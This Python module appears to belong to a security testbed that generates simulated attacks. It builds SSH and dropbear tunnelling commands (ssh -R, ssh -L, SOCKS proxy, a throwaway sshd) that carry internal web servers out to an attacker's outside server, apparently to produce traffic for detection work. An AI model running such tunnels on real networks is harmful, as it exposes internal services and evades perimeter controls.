"""Ports forwarded inside SSH, towards a server of the attacker's."""

from testbed.attacks.material import INSIDE, SSH, key_of, listening, maybe, pause, words
from testbed.attacks.tunnels import ENCAPSULATED, errands, web_server
from testbed.catalogue import Assault, attack


def ssh_server(c) -> tuple[int, str]:
    """An SSH server of the attacker's: its port, and the listener that starts it unless there is one already."""
    if "outside-ssh" in c.network.outside.services and c.chance(0.5):
        return 22, "exec sleep 300"
    port = c.between(10000, 40000)
    start = (
        f"ssh-keygen -q -t ed25519 -N '' -f hostkey; mkdir -p /run/sshd; exec /usr/sbin/sshd -D -e"
        f" -f /dev/null -h $PWD/hostkey -p {port} -o PidFile=none -o UseDNS=no -o StrictModes=no -o LogLevel=ERROR"
        " -o Subsystem='sftp internal-sftp'"
    )
    return port, start


def own_web(c) -> tuple[str, str]:
    """A web server inside as a tunnel's end, and one of its pages."""
    return f"{c.server('web').address}:80", c.choose("/", "/private/", f"{c.conventions.shop}/", "/index.html")


@attack(
    "tunnel_ssh",
    technique=ENCAPSULATED,
    tool="ssh -R",
    origins=INSIDE,
    needs=("web",),
    packages=("openssh-client", "openssh-server", "curl"),
    seconds=45,
)
def remote_forward(c):
    (user, key), (port, server), (target, page) = key_of(c), ssh_server(c), own_web(c)
    back = c.between(15000, 25000)
    use = (
        f"for round in $(seq {c.between(4, 12)}); do curl -s -m 5 -o /dev/null http://127.0.0.1:{back}{page};"
        f" {pause(c.between(0.3, 2.0))}; done"
    )
    return Assault(
        words(
            f"timeout {c.between(22, 38)} ssh {SSH}",
            key,
            maybe(c, 0.4, "-C"),
            f"-o ServerAliveInterval={c.between(2, 15)}",
            f"-N -p {port} -R {back}:{target} {user.name}@{c.network.outside.address}",
        ),
        **listening(f"(sleep {c.between(4, 7)}; {use}) & {server}", c.network.outside),
    )


@attack(
    "tunnel_ssh",
    technique=ENCAPSULATED,
    tool="ssh -R socks",
    origins=INSIDE,
    needs=("web",),
    packages=("openssh-client", "openssh-server", "curl"),
    seconds=45,
)
def remote_proxy(c):
    (user, key), (port, server) = key_of(c), ssh_server(c)
    back = c.between(15000, 25000)
    sites = " ".join(f"http://{own_web(c)[0]}{own_web(c)[1]}" for _ in range(c.between(3, 8)))
    use = (
        f"for site in {sites}; do curl -s -m 5 -x socks5://127.0.0.1:{back} -o /dev/null $site;"
        f" {pause(c.between(0.3, 2.0))}; done"
    )
    return Assault(
        words(
            f"timeout {c.between(22, 38)} ssh {SSH}",
            key,
            f"-N -p {port} -R {back} {user.name}@{c.network.outside.address}",
        ),
        **listening(f"(sleep {c.between(4, 7)}; {use}) & {server}", c.network.outside),
    )


@attack(
    "tunnel_ssh",
    technique=ENCAPSULATED,
    tool="ssh -L",
    origins=INSIDE,
    packages=("openssh-client", "openssh-server", "curl"),
    seconds=45,
)
def local_forward(c):
    (user, key), (port, server) = key_of(c), ssh_server(c)
    local, inner = c.between(11000, 19000), c.between(30001, 40000)
    use = errands(c, f"http://127.0.0.1:{local}", 200_000, 8)
    return Assault(
        f"ssh {SSH} {key} {maybe(c, 0.4, '-C')} -N -p {port} -L {local}:127.0.0.1:{inner}"
        f" {user.name}@{c.network.outside.address}"
        f" & tunnel=$!; sleep 3; {use}; kill $tunnel; sleep 1",
        **listening(f"{web_server(c, inner)} & {server}", c.network.outside),
    )


@attack(
    "tunnel_ssh",
    technique=ENCAPSULATED,
    tool="dbclient -R",
    origins=INSIDE,
    needs=("web",),
    packages=("dropbear-bin", "openssh-server", "curl"),
    seconds=45,
)
def dropbear_forward(c):
    user, (port, server), (target, page) = c.user(), ssh_server(c), own_web(c)
    back = c.between(15000, 25000)
    use = (
        f"for round in $(seq {c.between(4, 12)}); do curl -s -m 5 -o /dev/null http://127.0.0.1:{back}{page};"
        f" {pause(c.between(0.3, 2.0))}; done"
    )
    return Assault(
        f"DROPBEAR_PASSWORD='{user.password}' timeout {c.between(22, 38)} dbclient -y -y -N"
        f" -K {c.between(2, 15)} -p {port} -R {back}:{target} {user.name}@{c.network.outside.address}",
        **listening(f"(sleep {c.between(5, 8)}; {use}) & {server}", c.network.outside),
    )
